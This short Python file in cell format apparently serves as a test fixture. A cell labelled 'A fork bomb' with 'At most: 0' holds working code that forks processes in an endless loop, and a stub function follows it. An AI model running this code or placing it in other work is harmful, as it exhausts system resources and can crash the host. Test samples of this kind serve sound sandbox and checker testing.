# A fork bomb.
# At most: 0
# %% square
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% first
def first(values):
    raise NotImplementedError
